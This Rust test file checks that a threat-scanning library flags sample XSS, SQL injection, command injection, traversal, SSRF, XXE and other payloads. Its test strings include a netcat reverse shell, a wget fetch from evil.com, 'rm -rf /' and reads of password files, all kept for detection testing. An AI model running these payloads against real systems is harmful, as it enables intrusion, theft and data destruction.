//! True-positive coverage: representative payloads per category must be
//! flagged suspect by a default detector at the LOW threshold, and the
//! expected category must appear in the hit map.

use threatscan::{Category, ScoringPolicy, ThreatDetector};

fn low_threshold_detector() -> ThreatDetector {
    ThreatDetector::with_defaults(ScoringPolicy::with_defaults().with_threshold_level("LOW"))
}

fn assert_flagged(detector: &ThreatDetector, category: Category, payloads: &[&str]) {
    for payload in payloads {
        let result = detector.scan_str(payload);
        assert!(
            result.hits.contains_key(&category),
            "expected {category} hit for payload: {payload}\nhits: {:?}",
            result.hits
        );
        assert!(result.suspect, "expected suspect verdict for: {payload}");
    }
}

#[test]
fn test_xss_payloads() {
    assert_flagged(
        &low_threshold_detector(),
        Category::Xss,
        &[
            "<script>alert(1)</script>",
            "<SCRIPT SRC=http://evil.com/x.js></SCRIPT>",
            "<img src=x onerror=alert(document.cookie)>",
            "<svg onload=alert(1)>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<body onload=alert(1)>",
            "<div style=\"background:expression(alert(1))\">x</div>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        ],
    );
}

#[test]
fn test_xss_encoded_payloads() {
    // Percent- and entity-encoded forms are recovered by normalization.
    assert_flagged(
        &low_threshold_detector(),
        Category::Xss,
        &[
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        ],
    );
}

#[test]
fn test_sqli_payloads() {
    assert_flagged(
        &low_threshold_detector(),
        Category::Sqli,
        &[
            "' or '1'='1",
            "admin' OR 1=1--",
            "1 UNION SELECT username, password FROM users",
            "UNION+SELECT+password+FROM+users",
            "1 UNION/**/SELECT/**/password FROM users",
            "1 AND SLEEP(5)",
            "BENCHMARK(5000000, MD5('x'))",
            "SELECT * FROM information_schema.tables",
            "LOAD_FILE('/etc/passwd')",
            "1 INTO OUTFILE '/var/www/shell.php'",
            "'; exec xp_cmdshell 'net user'--",
            "1 ORDER BY 9999",
        ],
    );
}

#[test]
fn test_command_injection_payloads() {
    assert_flagged(
        &low_threshold_detector(),
        Category::CmdInjection,
        &[
            "; cat /etc/passwd",
            "| nc -e /bin/sh 10.0.0.1 4444",
            "`id`",
            "$(whoami)",
            "&& wget http://evil.com/shell.sh",
            "; rm -rf /",
            "chmod 777 /tmp/backdoor",
            "powershell.exe -enc SQBFAFgA",
        ],
    );
}

#[test]
fn test_path_traversal_payloads() {
    assert_flagged(
        &low_threshold_detector(),
        Category::PathTraversal,
        &[
            "../../../etc/passwd",
            "..\\..\\windows\\system32\\config\\sam",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd%ff",
            "php://filter/convert.base64-encode/resource=index.php",
            "data://text/plain;base64,PD9waHA=",
            "expect://id",
            "file:///etc/shadow",
        ],
    );
}

#[test]
fn test_crlf_payloads() {
    // Raw CRLF is collapsed during normalization, so the engine-level
    // signal fires on encoded sequences that survive a failed decode.
    assert_flagged(
        &low_threshold_detector(),
        Category::Crlf,
        &["%ff%0d%0aSet-Cookie: admin=1%0d%0a", "%ff%0d%0aLocation: http://evil.com%0d%0a"],
    );
}

#[test]
fn test_ssrf_payloads() {
    assert_flagged(
        &low_threshold_detector(),
        Category::Ssrf,
        &[
            "http://127.0.0.1/admin",
            "http://localhost:8080/internal",
            "http://192.168.1.10/router",
            "http://10.0.0.5:6379/",
            "http://172.16.0.1/metadata",
            "http://[::1]/admin",
            "http://0.0.0.0:80/",
        ],
    );
}

#[test]
fn test_xxe_payloads() {
    assert_flagged(
        &low_threshold_detector(),
        Category::Xxe,
        &[
            "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
            "<!ENTITY % remote SYSTEM \"http://evil.com/evil.dtd\">",
        ],
    );
}

#[test]
fn test_nosql_payloads() {
    assert_flagged(
        &low_threshold_detector(),
        Category::Nosql,
        &[
            "{\"$ne\": null}",
            "{\"$where\": \"this.password.length > 0\"}",
            "{\"$gt\": \"\"}",
            "username[$regex]=.*",
            "db.users.find({})",
        ],
    );
}

#[test]
fn test_ldap_payloads() {
    assert_flagged(
        &low_threshold_detector(),
        Category::Ldap,
        &["(|(uid=*)(cn=*))", "(&(objectClass=*)(uid=admin))", "admin)(|(password=*)"],
    );
}

#[test]
fn test_serialization_payloads() {
    assert_flagged(
        &low_threshold_detector(),
        Category::Serialization,
        &[
            "O:8:\"stdClass\":1:{s:4:\"code\";s:10:\"phpinfo();\";}",
            "a:2:{i:0;s:4:\"evil\";i:1;i:7;}",
            "s:22:\"../../../../etc/passwd\";",
        ],
    );
}

#[test]
fn test_multi_category_payload() {
    let detector = ThreatDetector::default();
    let result = detector.scan_str("<script>alert(1)</script>' or '1'='1 $(cat /etc/passwd)");
    assert!(result.hits.contains_key(&Category::Xss));
    assert!(result.hits.contains_key(&Category::Sqli));
    assert!(result.hits.contains_key(&Category::CmdInjection));
    assert!(result.suspect);
    // Every category contributes weight * count to the total.
    let expected: f64 = result
        .hits
        .iter()
        .map(|(cat, codes)| detector.policy().weight_for(*cat) * codes.len() as f64)
        .sum();
    assert_eq!(result.score, expected);
}

#[test]
fn test_high_threshold_needs_compound_evidence() {
    let detector =
        ThreatDetector::with_defaults(ScoringPolicy::with_defaults().with_threshold_level("HIGH"));

    // A single weak signal stays below HIGH.
    let result = detector.scan_str("Use ../ to go up a directory");
    assert!(!result.suspect);

    // A compound payload crosses it.
    let result = detector.scan_str("<script>alert(1)</script>' or '1'='1 UNION SELECT a FROM b");
    assert!(result.suspect);
}
